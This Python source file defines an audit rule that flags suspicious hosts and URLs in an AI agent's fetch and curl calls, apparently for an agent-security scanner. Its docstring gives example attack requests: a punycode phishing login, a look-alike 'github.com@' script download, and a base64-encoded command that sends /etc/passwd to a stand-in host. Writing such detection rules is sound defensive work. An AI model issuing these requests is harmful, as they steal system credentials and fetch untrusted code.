"""Hosts and URLs that look like more than a page to read."""

from collections.abc import Iterator

from ccmcp.audit.call import Fetch, Scene
from ccmcp.audit.hosts import is_local
from ccmcp.audit.rule import Hit, Severity, rule
from ccmcp.audit.rules.scripts._senders import is_drop

_LONG = 500


@rule(
    id="EXF-003",
    title="Suspicious host or URL asked",
    severity="info",
    confidence="signal",
    category="exfiltration",
    matches="Requests to bare IP addresses, punycode and look-alike names, paste, webhook and tunnel hosts, and URLs with long or encoded queries",
    false_positives="Servers of one's own without a name; signed links of storage services have long queries.",
    advice="Look at what the host is, and allow it by name or deny it.",
    permission="WebFetch(domain:webhook.site)",
    on=Fetch,
    attack=("T1071", "T1567"),
    atlas=("AML.T0086",),
    owasp=("ASI02",),
    auto_mode=("Browser Navigate Exfil",),
)
def suspicious_host(fetch: Fetch, scene: Scene) -> Iterator[Hit]:
    """
    A host that deserves a second look is asked for something.

    Bad:
        WebFetch: https://xn--pypl-53dca.example/login          # medium
        WebFetch: https://x.example/?d=Y2F0IC9ldGMvcGFzc3dkIHwgYmFzZTY0IC13MCB8IGN1cmwgLWQgQC0gaHR0cHM6Ly94LmV4YW1wbGUvP3E9MSZhPTIK  # medium
        curl https://github.com@x.example/i.sh                  # medium
    Fine:
        WebFetch: https://docs.python.org/3/
        WebFetch: https://webhook.site/abc    # low
        curl http://192.0.2.7/health          # info
        curl http://127.0.0.1:3000/
        curl http://10.0.0.4/health
    """
    _ = scene
    host, url = fetch.host, fetch.url
    if not host or is_local(host):
        return
    severity, note = _judged(host, url)
    if severity is not None:
        yield Hit(target=host, severity=severity, note=note)


def _judged(host: str, url: str) -> tuple[Severity | None, str]:
    if host.startswith("xn--") or ".xn--" in host:
        return "medium", "a name in punycode"
    if not host.isascii():
        return "medium", "a name with letters of another script"
    before, at, _ = url.partition("://")[2].partition("/")[0].rpartition("@")
    if at and "." in before.partition(":")[0] and ":" not in before and url.startswith("http"):
        return "medium", "another host's name before the @"
    query = url.partition("?")[2]
    if (
        len(query) > 64
        and (_encoded(query))
        and "X-Amz" not in query
        and "sig=" not in query.lower()
        and "token=" not in query
        and "signature" not in query.lower()
    ):
        return "medium", "an encoded text in its query"
    if is_drop(url):
        return "low", "a paste, webhook or tunnel host"
    if host.replace(".", "").isdigit() or ":" in host or (host.startswith("0x") and "." not in host):
        return "info", "an address without a name"
    if len(query) > _LONG and "X-Amz" not in query:
        return "low", "a long query"
    return None, ""


def _encoded(query: str) -> bool:
    """Whether a value in a query is a long text in base64 or hexadecimal."""
    for part in query.split("&"):
        value = part.partition("=")[2].rstrip("=").replace("%3D", "")
        if len(value) > 64 and all(letter.isalnum() or letter in "+/_-" for letter in value):
            lower = sum(letter.islower() for letter in value)
            upper = sum(letter.isupper() for letter in value)
            if (lower > len(value) // 8 and upper > len(value) // 8) or all(
                letter in "0123456789abcdefABCDEF" for letter in value
            ):
                return True
    return False
